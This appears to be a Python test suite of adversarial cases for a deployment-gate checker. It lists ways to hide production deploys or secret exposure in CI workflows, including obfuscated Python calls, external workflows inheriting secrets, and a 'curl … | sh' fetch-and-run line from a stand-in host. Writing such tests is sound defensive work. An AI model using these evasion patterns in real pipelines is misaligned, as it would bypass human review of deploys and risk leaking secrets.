"""Ways around the gate that other files take: actions, called workflows, Python, variables, remote hosts."""

from __future__ import annotations

from tests.adversary.patch import FROM_HIGH, Hand, Lie, append, each, write
from tests.adversary.scene import Scene

SIDE, ACTION = ".github/workflows/side.yml", ".github/actions/ship/action.yml"
SHA = "a" * 40
HEAD = "name: side\non: [workflow_dispatch]\npermissions: {}\njobs:\n  ship:\n"
JOB = HEAD + "    runs-on: ubuntu-24.04\n    environment: production\n    steps:\n"
SECRET = JOB.replace("    steps", "    env: {TOKEN: '${{ secrets.TOKEN }}'}\n    steps")
GITLAB = "ship:\n  script: [{}]\n"
CALLED = JOB.replace("workflow_dispatch", "workflow_call")


def _run(*lines: str, job: str = JOB) -> Hand:
    """A workflow of one job that runs these lines."""
    return write(SIDE, job + "      - run: |\n" + "".join(f"          {line}\n" for line in lines))


def _action(steps: str) -> Hand:
    return each(
        write(ACTION, f"name: ship\ndescription: Tidy up.\nruns:\n{steps}"),
        write(SIDE, SECRET + "      - uses: ./.github/actions/ship\n"),
    )


def _python(text: str) -> Hand:
    return each(write("scripts/tidy.py", text), _run("python scripts/tidy.py"))


def _gitlab(text: str, **files: str) -> Hand:
    """Another pipeline beside the one of GitHub."""
    more = (write(name.replace("__", "/") + ".yml", content) for name, content in files.items())
    return each(write(".gitlab-ci.yml", text), *more)


def _notebook_free(scene: Scene) -> None:
    """In the package itself, imported by nobody."""
    scene.write("src/credit_decision/rollout.py", "import os\n\nos.system('helm upgrade credit ./chart')\n")


COMPOSITE = "  using: composite\n  steps:\n    - run: kubectl apply -f deploy/kubernetes\n      shell: bash\n"
NESTED = "  using: composite\n  steps:\n    - uses: ./.github/actions/inner\n"
KUBECTL = 'import subprocess\n\nsubprocess.run(["kubectl", "apply", "-f", "deploy"], check=True)\n'

LIES = (
    Lie("a deploy by an action of its own", ("REL-01",), _action(COMPOSITE)),
    Lie(
        "a deploy by an action in an action",
        ("REL-01",),
        each(_action(NESTED), write(".github/actions/inner/action.yml", "name: x\nruns:\n" + COMPOSITE)),
    ),
    Lie(
        "an action that nobody calls yet", ("REL-01",), write("tools/ship/action.yml", "runs:\n" + COMPOSITE)
    ),
    Lie(
        "secrets for an action that nobody can read",
        ("REL-01",),
        _action("  using: node20\n  main: dist/index.js\n"),
        at=FROM_HIGH,
    ),
    Lie(
        "secrets for an action that comes from elsewhere",
        ("REL-01",),
        write(SIDE, SECRET + "      - uses: ./fetched/ship\n"),
        at=FROM_HIGH,
    ),
    Lie(
        "a deploy in a called workflow",
        ("REL-01",),
        each(
            write(SIDE, HEAD + "    uses: ./.github/workflows/inner.yml\n"),
            write(".github/workflows/inner.yml", CALLED + "      - run: kubectl apply -f deploy\n"),
        ),
    ),
    Lie(
        "every secret for somebody else's workflow",
        ("REL-01",),
        write(SIDE, HEAD + f"    uses: other/pipes/.github/workflows/x.yml@{SHA}\n    secrets: inherit\n"),
        at=FROM_HIGH,
    ),
    Lie(
        "an identity for somebody else's workflow",
        ("REL-01",),
        write(
            SIDE,
            HEAD
            + "    permissions: {id-token: write}\n"
            + f"    uses: other/pipes/.github/workflows/x.yml@{SHA}\n",
        ),
        at=FROM_HIGH,
    ),
    Lie("a deploy by Python", ("REL-01",), _python(KUBECTL)),
    Lie("a deploy by Python that nobody calls yet", ("REL-01",), write("tools/later.py", KUBECTL)),
    Lie("a deploy in the package", ("REL-01",), _notebook_free),
    Lie(
        "a deploy by Python, word by word",
        ("REL-01",),
        _python("import os\n\nTOOL = 'kubectl'\nos.execvp(TOOL, [TOOL, 'apply', '-f', 'deploy'])\n"),
    ),
    Lie(
        "a deploy by Python, glued together",
        ("REL-01",),
        _python("import os\n\ngetattr(os, 'sys' + 'tem')('kube' + 'ctl apply -f deploy')\n"),
    ),
    Lie(
        "a deploy by Python, the verb put in later",
        ("REL-01",),
        _python("import subprocess\nimport sys\n\nsubprocess.run(['kubectl', *sys.argv[1:]])\n"),
    ),
    Lie(
        "a deploy by the client of a cloud",
        ("REL-01",),
        _python("import boto3\n\nboto3.client('sagemaker').update_endpoint(EndpointName='credit')\n"),
    ),
    Lie(
        "a deploy by the client of a cluster",
        ("REL-01",),
        _python(
            "from kubernetes import client\n\nclient.AppsV1Api().patch_namespaced_deployment('credit')\n"
        ),
    ),
    Lie(
        "a deploy by a helper that a script imports",
        ("REL-01",),
        each(
            write("scripts/helper.py", KUBECTL.replace("\n\n", "\n\n\ndef go():\n    ")),
            _python("import helper\n\nhelper.go()\n"),
        ),
    ),
    Lie(
        "a deploy by a step of Python",
        ("REL-01",),
        _run(
            "import os",
            "os.system('docker push registry.x.example/credit')",
            job=JOB.replace("    steps", "    defaults: {run: {shell: python}}\n    steps"),
        ),
    ),
    Lie(
        "a deploy by python -c", ("REL-01",), _run("python -c \"import os; os.system('kubectl apply -f d')\"")
    ),
    Lie(
        "a deploy by JavaScript",
        ("REL-01",),
        each(
            write("scripts/tidy.js", "require('child_process').execSync('kubectl apply -f deploy')\n"),
            _run("node scripts/tidy.js"),
        ),
    ),
    Lie(
        "a deploy by a task of npm",
        ("REL-01",),
        write("package.json", '{"scripts": {"tidy": "helm upgrade credit ./chart"}}\n'),
    ),
    Lie(
        "a deploy by a script without an ending",
        ("REL-01",),
        each(write("bin/tidy", "#!/bin/sh\nkubectl apply -f deploy\n"), _run("bin/tidy")),
    ),
    Lie(
        "a deploy by a Makefile elsewhere",
        ("REL-01",),
        each(write("ops/Makefile", "tidy:\n\tkubectl apply -f deploy\n"), _run("make -C ops tidy")),
    ),
    Lie(
        "a deploy by a commit hook",
        ("REL-01",),
        append(
            ".pre-commit-config.yaml",
            "  - repo: local\n    hooks:\n      - id: tidy\n        name: tidy\n"
            "        entry: kubectl apply -f deploy\n        language: system\n",
        ),
    ),
    Lie("a deploy in a shell in a shell", ("REL-01",), _run("bash -c 'kubectl apply -f deploy'")),
    Lie("a deploy as somebody else", ("REL-01",), _run("sudo -u ops kubectl apply -f deploy")),
    Lie("a deploy by a variable", ("REL-01",), _run("TOOL=kubectl", "$TOOL apply -f deploy")),
    Lie(
        "a deploy by the environment",
        ("REL-01",),
        _run("$TIDY", job=JOB.replace("    steps", "    env: {TIDY: kubectl apply -f deploy}\n    steps")),
    ),
    Lie(
        "a deploy by the matrix",
        ("REL-01",),
        _run(
            "${{ matrix.tidy }}",
            job=JOB.replace(
                "    steps", "    strategy: {matrix: {tidy: [helm upgrade credit x]}}\n    steps"
            ),
        ),
    ),
    Lie("a deploy by an image", ("REL-01",), _run("docker run bitnami/kubectl:1.31 apply -f deploy")),
    Lie("a deploy fed to a shell", ("REL-01",), _run("bash <<EOF", "kubectl apply -f deploy", "EOF")),
    Lie("a deploy piped to a shell", ("REL-01",), _run('echo "kubectl apply -f deploy" | sh')),
    Lie("a deploy by ssh", ("REL-01",), _run("ssh ops@serving 'systemctl restart credit'")),
    Lie("a deploy by copy", ("REL-01",), _run("rsync -a src/ ops@serving:/srv/credit")),
    Lie("a deploy by a push", ("REL-01",), _run("git push heroku main")),
    Lie("a deploy by a web hook", ("REL-01",), _run("curl -X POST https://ops.x.example/deploy/credit")),
    Lie(
        "a deploy handed to an action",
        ("REL-01",),
        write(
            SIDE, f"{JOB}      - uses: nick/retry@{SHA}\n        with: {{command: kubectl apply -f deploy}}\n"
        ),
    ),
    Lie("a command that only a secret knows", ("REL-01",), _run("$TIDY", job=SECRET), at=FROM_HIGH),
    Lie(
        "a script from the network",
        ("REL-01",),
        _run("curl https://x.example/tidy | sh", job=SECRET),
        at=FROM_HIGH,
    ),
    Lie(
        "a deploy by an included pipeline",
        ("REL-01",),
        _gitlab("include: {local: /ci/*.yml}\n", ci__tidy=GITLAB.format("kubectl apply -f deploy")),
    ),
    Lie(
        "a deploy by a pipeline that it starts",
        ("REL-01",),
        _gitlab(
            "down: {trigger: {include: ci/tidy.yml}}\n", ci__tidy=GITLAB.format("kubectl apply -f deploy")
        ),
    ),
    Lie(
        "a deploy by what it extends",
        ("REL-01",),
        _gitlab(".tidy: {script: [kubectl apply -f deploy]}\ntidy: {extends: .tidy}\n"),
    ),
    Lie(
        "a deploy after the script",
        ("REL-01",),
        _gitlab("tidy: {script: ['true'], after_script: [kubectl apply -f deploy]}\n"),
    ),
    Lie(
        "a pipeline from another project",
        ("REL-01",),
        _gitlab(f"include: {{project: other/pipes, ref: {SHA}, file: x.yml}}\n"),
        at=FROM_HIGH,
    ),
    Lie(
        "a pipeline of another project started",
        ("REL-01",),
        _gitlab("tidy: {trigger: other/ship}\n"),
        at=FROM_HIGH,
    ),
)
